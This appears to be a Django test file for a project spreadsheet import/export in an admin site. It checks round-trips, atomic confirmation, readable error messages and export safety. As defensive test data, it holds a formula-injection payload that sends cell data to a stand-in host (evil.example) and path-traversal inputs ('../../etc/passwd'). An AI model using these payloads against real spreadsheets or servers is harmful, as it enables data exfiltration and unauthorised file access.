"""The project spreadsheet in admin: an exported file imports back unchanged, the confirm
step saves all rows or none, a tampered or vanished file reference is a clear 400, errors
are sentences, and no cell of an export is a formula."""

import io
import tempfile
from pathlib import Path

import pytest
from django.core.management import call_command
from django.db import DatabaseError
from django.urls import reverse
from django.utils import translation
from lxml import html as lxml_html

from projects.models import Project
from projects.resources import ProjectResource
from tests.admin_personas import carl, nina
from tests.factories import CountryFactory, ProjectFactory
from tests.spreadsheets import content_of, csv_rows, export_form, xlsx_rows

pytestmark = pytest.mark.django_db

EXPORT = "admin:projects_project_export"
IMPORT = "admin:projects_project_import"
CONFIRM = "admin:projects_project_process_import"
CSV, XLSX = "0", "1"  # the export formats' positions (JSON is the third)
IMPORT_CSV, IMPORT_XLSX = "0", "1"


@pytest.fixture
def editor(client):
    user = carl()
    client.force_login(user)
    return user


def export(client, file_format):
    """The file of every column of the project spreadsheet, as the export page posts it."""
    response = client.post(reverse(EXPORT), export_form(ProjectResource,
                                                        ProjectResource.Meta.fields,
                                                        file_format))
    assert response.status_code == 200
    return content_of(response)


def preview(client, content, file_format, name):
    upload = io.BytesIO(content)
    upload.name = name
    return client.post(reverse(IMPORT), {"resource": "0", "format": file_format,
                                         "import_file": upload})


def confirm(client, response):
    return client.post(reverse(CONFIRM), response.context["confirm_form"].initial)


def snapshot():
    """Every project's row (its `updated` time too) and its many-to-many links, as stored."""
    projects = {row["id"]: row for row in Project.objects.values()}
    for name in ("countries", "themes", "partners", "member_organisations"):
        links = {}
        for row in getattr(Project, name).through.objects.values():
            links.setdefault(row.pop("project_id"), set()).add(tuple(sorted(row.items())))
        for pk, project in projects.items():
            project[name] = links.get(pk, set())
    return projects


@pytest.fixture
def demo(settings):
    settings.DEBUG = True  # load_demo refuses what looks like production
    call_command("load_demo", stdout=io.StringIO())


@pytest.mark.parametrize(("export_format", "import_format", "name"), [
    (CSV, IMPORT_CSV, "projekt.csv"),
    (XLSX, IMPORT_XLSX, "projekt.xlsx"),
])
def test_an_exported_file_imports_back_unchanged(client, editor, demo, export_format,
                                                 import_format, name):
    projects = Project.objects.all()
    # The demo has every kind of reference in use: a funder without a short name, a
    # programme, partners, members, themes, several countries.
    assert projects.filter(funder__short_name="").exists()
    assert projects.filter(programme__isnull=False).exists()
    assert projects.filter(partners__isnull=False).exists()
    assert projects.filter(member_organisations__isnull=False).exists()
    before = snapshot()

    content = export(client, export_format)
    response = preview(client, content, import_format, name)

    result = response.context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), (
        [row.error_dict for row in result.invalid_rows], result.row_errors())
    assert [row.import_type for row in result.valid_rows()] == ["skip"] * len(before)
    response = confirm(client, response)
    assert response.status_code == 302
    assert snapshot() == before


# --- The confirm step: all rows or none ---------------------------------------------------

HEADER = "iati_identifier,slug,title_sv,countries,status,start_date,budget_sek\n"


def row(number, **changes):
    cells = {"iati_identifier": f"SE-ON-DEMO-IMP-{number}", "slug": f"import-{number}",
             "title_sv": f"Import {number}", "countries": "PS", "status": "ongoing",
             "start_date": "2025-01-01", "budget_sek": "1000", **changes}
    return ",".join(cells.values()) + "\n"


@pytest.fixture
def palestine():
    return CountryFactory(iso_code="PS", slug="palestina")


def preview_csv(client, text, prefix=""):
    upload = io.BytesIO(text.encode())
    upload.name = "projekt.csv"
    return client.post(prefix + reverse(IMPORT), {"resource": "0", "format": IMPORT_CSV,
                                                  "import_file": upload})


def imported():
    return Project.objects.filter(iati_identifier__startswith="SE-ON-DEMO-IMP-")


def text_of(response):
    return response.content.decode()


def test_a_row_made_invalid_after_the_preview_stops_the_whole_import(client, editor,
                                                                     palestine):
    response = preview_csv(client, HEADER + row(1) + row(2) + row(3))
    assert response.context["confirm_form"] is not None
    # Between the preview and the confirm, someone else takes the second row's slug.
    ProjectFactory(slug="import-2")

    response = confirm(client, response)

    assert response.status_code == 200
    assert not imported().exists()
    page = text_of(response)
    assert "Inget importerades" in page
    # The row and its error, in words.
    assert "finns redan" in page
    (invalid,) = response.context["result"].invalid_rows
    assert invalid.number == 2


def test_a_clean_file_is_saved_whole(client, editor, palestine):
    response = confirm(client, preview_csv(client, HEADER + row(1) + row(2)))
    assert response.status_code == 302
    assert imported().count() == 2


def test_a_file_cannot_be_confirmed_twice(client, editor, palestine):
    response = preview_csv(client, HEADER + row(1))
    assert confirm(client, response).status_code == 302
    # A second click, or the same form in another tab: the file was used.
    again = confirm(client, response)
    assert again.status_code == 400
    assert imported().count() == 1


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "finns-inte",
                                  "0123456789abcdef0123456789abcdef"])
def test_a_tampered_file_reference_is_a_clear_400(client, editor, name):
    response = client.post(reverse(CONFIRM), {"import_file_name": name,
                                              "original_file_name": "projekt.csv",
                                              "format": IMPORT_CSV, "resource": "0"})
    assert response.status_code == 400
    assert "Ladda upp filen igen" in text_of(response)


def test_the_400_page_speaks_the_staff_members_language(client, editor):
    response = client.post("/en" + reverse(CONFIRM), {
        "import_file_name": "../../etc/passwd", "original_file_name": "projekt.csv",
        "format": IMPORT_CSV, "resource": "0"})
    assert response.status_code == 400
    assert "Upload the file again" in text_of(response)


@pytest.mark.parametrize("changes", [{"format": "7"}, {"format": "csv"}, {"format": "²"},
                                     {"resource": "3"}, {"format": IMPORT_XLSX}])
def test_a_tampered_format_or_resource_is_a_clear_400(client, editor, palestine, changes):
    response = preview_csv(client, HEADER + row(1))
    data = {**response.context["confirm_form"].initial, **changes}
    response = client.post(reverse(CONFIRM), data)
    assert response.status_code == 400
    assert not imported().exists()


def test_a_file_the_import_did_not_write_is_neither_read_nor_removed(client, editor,
                                                                     palestine):
    # Another file in the server's temporary folder, named in the confirm form.
    secret = Path(tempfile.gettempdir()) / "palmecentret-test-not-an-upload.csv"
    secret.write_text(HEADER + row(1))
    try:
        response = client.post(reverse(CONFIRM), {"import_file_name": secret.name,
                                                  "original_file_name": "projekt.csv",
                                                  "format": IMPORT_CSV, "resource": "0"})
        assert response.status_code == 400
        assert secret.exists()
        assert not imported().exists()
    finally:
        secret.unlink(missing_ok=True)


# --- The IATI identifier's prefix, as in the project form -------------------------------------

PREFIX_ERROR = ("IATI-identifieraren måste börja med Palmecentrets organisationsidentifierare "
                "och ett bindestreck, SE-ON-DEMO-, t.ex. SE-ON-DEMO-123 (IATI-regel 1.1.21).")


def test_a_new_project_under_another_organisations_prefix_is_refused_in_words(client, editor,
                                                                               palestine):
    response = preview_csv(client, HEADER + row(1, iati_identifier="SE-ON-999999-0000-1")
                           + row(2))
    errors = {row.number: row.error_dict for row in response.context["result"].invalid_rows}
    assert list(errors) == [1]
    assert errors[1]["iati_identifier"] == [PREFIX_ERROR]
    assert PREFIX_ERROR in text_of(response)  # next to the row in the preview
    assert response.context.get("confirm_form") is None
    assert not Project.objects.filter(iati_identifier="SE-ON-999999-0000-1").exists()


def test_an_existing_project_under_an_old_prefix_still_imports(client, editor, palestine):
    # Saved before the organisation's identifier was set: the row still updates it, as the
    # project form still saves it.
    project = ProjectFactory(iati_identifier="SE-ON-OLD-1", slug="import-1",
                             countries=[palestine])
    response = preview_csv(client, HEADER + row(1, iati_identifier="SE-ON-OLD-1",
                                                title_sv="Nytt namn",
                                                start_date="2020-01-01"))
    assert not response.context["result"].invalid_rows
    assert confirm(client, response).status_code == 302
    project.refresh_from_db()
    assert project.title_sv == "Nytt namn"


# --- Errors in sentences -------------------------------------------------------------------

def assert_no_traceback(page):
    assert "Traceback" not in page
    assert "site-packages" not in page
    assert ".py" not in page


def test_a_file_without_the_identifier_column_is_told_in_a_sentence(client, editor,
                                                                   palestine):
    response = preview_csv(client, "slug,title_sv,countries\nimport-1,Import 1,PS\n")
    page = text_of(response)
    assert_no_traceback(page)
    # The column named by its title, as the exported file and the example file name it.
    assert "Filen saknar kolumnen IATI-aktivitetsidentitet" in page
    assert response.context.get("confirm_form") is None


@pytest.mark.parametrize(("content", "file_format", "name"), [
    (b"iati_identifier,slug\nSE-ON-1,ett\n", "IMPORT_XLSX", "projekt.xlsx"),
    ("iati_identifier;slug\n".encode("utf-16"), "IMPORT_CSV", "projekt.csv"),
])
def test_a_file_that_cannot_be_read_is_told_in_a_sentence(client, editor, content,
                                                          file_format, name):
    # A CSV file chosen as XLSX (no zip inside), a file in another encoding than UTF-8.
    response = preview(client, content, globals()[file_format], name)
    page = text_of(response)
    assert_no_traceback(page)
    assert "BadZipFile" not in page and "UnicodeDecodeError" not in page
    assert "Filen kunde inte läsas som" in page
    assert response.context.get("confirm_form") is None


def test_values_that_cannot_be_read_are_told_in_sentences(client, editor, palestine):
    response = preview_csv(client, HEADER + row(1, budget_sek="mycket")
                           + row(2, start_date="2025-13-01") + row(3, budget_sek="inf")
                           + row(4, budget_sek="2.5"))
    page = text_of(response)
    assert_no_traceback(page)
    errors = {row.number: row.error_dict for row in response.context["result"].invalid_rows}
    assert "Skriv ett heltal" in str(errors[1]["budget_sek"])
    assert "Skriv datumet som ÅÅÅÅ-MM-DD" in str(errors[2]["start_date"])
    assert "Skriv ett heltal" in str(errors[3]["budget_sek"])
    assert "Skriv ett heltal" in str(errors[4]["budget_sek"])


def test_an_unexpected_failure_is_a_sentence_without_server_paths(client, editor, palestine,
                                                                  monkeypatch, caplog):
    def full_disk(self, *args, **kwargs):
        raise DatabaseError("could not extend file \"/var/lib/postgresql/16/main/base/5/1\": "
                            "No space left on device")

    monkeypatch.setattr(Project, "save", full_disk)
    response = preview_csv(client, HEADER + row(1))
    page = text_of(response)
    assert_no_traceback(page)
    assert "/var/lib" not in page
    assert "oväntat fel" in page
    # The operators learn what it was.
    assert "No space left on device" in caplog.text


# --- Exports: text stays text -------------------------------------------------------------

HOSTILE = '=HYPERLINK("https://evil.example/?d="&A3,"Klicka")'


@pytest.fixture
def hostile(palestine):
    project = ProjectFactory(title_sv=HOSTILE, title_en="@SUM(A1)", summary_sv="-5 % i år",
                             body_sv="'citat'", countries=[palestine])
    return project


def test_the_csv_export_writes_formulas_as_text_and_reads_them_back(client, editor, hostile):
    content = export(client, CSV)
    (row,) = csv_rows(content)
    assert row["Titel [sv]"] == "'" + HOSTILE
    assert row["Titel [en]"] == "'@SUM(A1)"
    assert row["Sammanfattning [sv]"] == "'-5 % i år"
    assert row["Brödtext [sv]"] == "'citat'"  # no formula: as it is
    # The same file imports back unchanged.
    response = preview(client, content, IMPORT_CSV, "projekt.csv")
    assert [r.import_type for r in response.context["result"].valid_rows()] == ["skip"]


def test_the_xlsx_export_holds_formulas_as_text_cells(client, editor, hostile):
    content = export(client, XLSX)
    (row,) = xlsx_rows(content)
    assert row["Titel [sv]"].data_type == "s"
    assert row["Titel [sv]"].value == HOSTILE
    assert row["Titel [en]"].value == "@SUM(A1)"
    assert row["Sammanfattning [sv]"].value == "-5 % i år"
    assert row["Budget (kr)"].value == 1_000_000  # numbers stay numbers
    response = preview(client, content, IMPORT_XLSX, "projekt.xlsx")
    assert [r.import_type for r in response.context["result"].valid_rows()] == ["skip"]


def test_a_control_character_stored_in_a_text_does_not_stop_the_xlsx_export(client, editor,
                                                                           hostile):
    # Stored before control characters were stripped on save (an update() saves nothing).
    Project.objects.filter(pk=hostile.pk).update(body_sv="Före\x02 efter")
    (row,) = xlsx_rows(export(client, XLSX))
    assert row["Brödtext [sv]"].value == "Före efter"


# --- The example file -------------------------------------------------------------------------

def test_the_import_page_offers_an_example_file_that_imports_cleanly(client, editor,
                                                                   palestine):
    page = client.get(reverse(IMPORT))
    example_url = reverse("admin:projects_project_import_example")
    assert f'href="{example_url}"' in text_of(page)

    response = client.get(example_url)
    assert response.status_code == 200
    assert "attachment" in response["Content-Disposition"]
    content = content_of(response)
    rows = csv_rows(content)
    # The columns by their titles in the staff member's language, in the import's order.
    assert list(rows[0])[:5] == ["IATI-aktivitetsidentitet", "Adressnamn (slug)", "Titel [sv]",
                                 "Titel [en]", "Program"]
    assert len(rows[0]) == len(ProjectResource().get_import_fields())
    assert rows[0]["Länder"] == "PS"

    result = preview(client, content, IMPORT_CSV, "exempel.csv").context["result"]
    assert not result.has_errors() and not result.has_validation_errors(), (
        [row.error_dict for row in result.invalid_rows], result.row_errors())
    assert [row.import_type for row in result.valid_rows()] == ["new"]


def test_the_example_file_is_for_staff_who_may_import(client):
    client.force_login(nina())  # the newsletter manager cannot import projects
    assert client.get(reverse("admin:projects_project_import_example")).status_code == 403


# --- Columns in the staff member's language ---------------------------------------------------

def test_the_exported_columns_are_titled_in_the_staff_members_language(client, editor,
                                                                       hostile):
    swedish = csv_rows(export(client, CSV))
    assert list(swedish[0])[:3] == ["IATI-aktivitetsidentitet", "Adressnamn (slug)",
                                    "Titel [sv]"]
    assert {"Budget (kr)", "Antal nådda personer", "Sammanfattning [sv]"} <= set(swedish[0])
    # The export page's boxes for choosing columns say the same.
    page = text_of(client.get(reverse(EXPORT)))
    assert "Budget (kr)" in page and "Budget Sek" not in page
    with translation.override("en"):
        english = csv_rows(client.post(reverse(EXPORT), export_form(
            ProjectResource, ProjectResource.Meta.fields, CSV)))
    assert list(english[0])[:3] == ["IATI activity identifier", "Slug", "Title [sv]"]
    assert {"Budget (SEK)", "People reached", "Summary [sv]"} <= set(english[0])


def test_a_file_exported_in_one_language_imports_in_the_other(client, editor, hostile):
    swedish = export(client, CSV)
    response = preview(client, swedish, IMPORT_CSV, "projekt.csv")
    assert [r.import_type for r in response.context["result"].valid_rows()] == ["skip"]
    with translation.override("en"):
        response = preview(client, swedish, IMPORT_CSV, "projekt.csv")
    assert "Budget (SEK):" in text_of(response)
    assert [r.import_type for r in response.context["result"].valid_rows()] == ["skip"]
    # Titles in any case and with spaces around them are the same columns.
    text = ("iati identifier , adressnamn (SLUG),Titel [SV],Länder,STATUS,Startdatum\n"
            "SE-ON-DEMO-IMP-9,import-9,Import 9,PS,ongoing,2025-01-01\n")
    response = preview_csv(client, text.replace("iati identifier", "IATI activity identifier"))
    assert [r.import_type for r in response.context["result"].valid_rows()] == ["new"]


def test_a_failing_row_shows_its_cells_and_errors_under_the_columns_titles(client, editor,
                                                                          palestine):
    # Columns in another order than the export's: each value beside its own column, each
    # error under the column's title.
    text = ("Budget (kr),Startdatum,IATI-aktivitetsidentitet,Adressnamn (slug),Titel [sv],"
            "Länder\nmycket,2025-13-01,SE-ON-DEMO-IMP-1,import-1,Import 1,PS\n")
    response = preview_csv(client, text)
    page = lxml_html.fromstring(text_of(response))
    (row,) = page.xpath("//table[contains(@class, 'import-errors')]/tbody/tr")
    cells = dict(zip([dt.text_content().rstrip(":") for dt in row.xpath(".//dt")],
                     [dd.text_content() for dd in row.xpath(".//dd")]))
    assert cells["Budget (kr)"] == "mycket"
    assert cells["Startdatum"] == "2025-13-01"
    assert cells["IATI-aktivitetsidentitet"] == "SE-ON-DEMO-IMP-1"
    errors = [strong.text_content() for strong in row.xpath(".//td[@class='errors']//strong")]
    assert set(errors) == {"Budget (kr)", "Startdatum"}
